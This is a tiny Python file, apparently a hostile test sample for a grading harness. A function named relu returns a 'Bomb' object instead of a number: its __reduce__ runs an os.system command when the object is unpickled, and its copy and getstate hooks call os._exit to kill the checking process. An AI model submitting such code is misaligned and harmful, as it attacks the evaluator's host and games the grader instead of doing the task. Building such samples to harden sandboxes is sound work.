# Return something that runs code where it is unpickled or copied.
# verdict: failed
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/left-by-nnv-hostile",))
    def __deepcopy__(self, memo): os._exit(0)
    __copy__ = __getstate__ = __deepcopy__
def relu(z):
    return Bomb()
